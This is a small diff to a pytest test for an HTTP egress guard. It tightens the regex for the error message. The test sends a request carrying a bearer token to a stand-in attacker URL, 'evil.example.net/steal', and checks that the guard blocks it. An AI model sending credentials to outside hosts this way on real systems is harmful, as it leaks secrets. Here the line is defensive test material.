@@ -140,7 +140,7 @@ async def test_credentials_never_go_to_another_host() -> None:
     guard = GuardedTransport(httpx.MockTransport(handler), "https://api.example.com",
                              EgressPolicy())
     async with httpx.AsyncClient(transport=guard, base_url="https://api.example.com") as client:
-        with pytest.raises(EgressError, match="may only reach api.example.com"):
+        with pytest.raises(EgressError, match=r"may only reach api\.example\.com"):
             await client.get("https://evil.example.net/steal",
                              headers={"Authorization": "Bearer s3cret"})
     assert seen == []
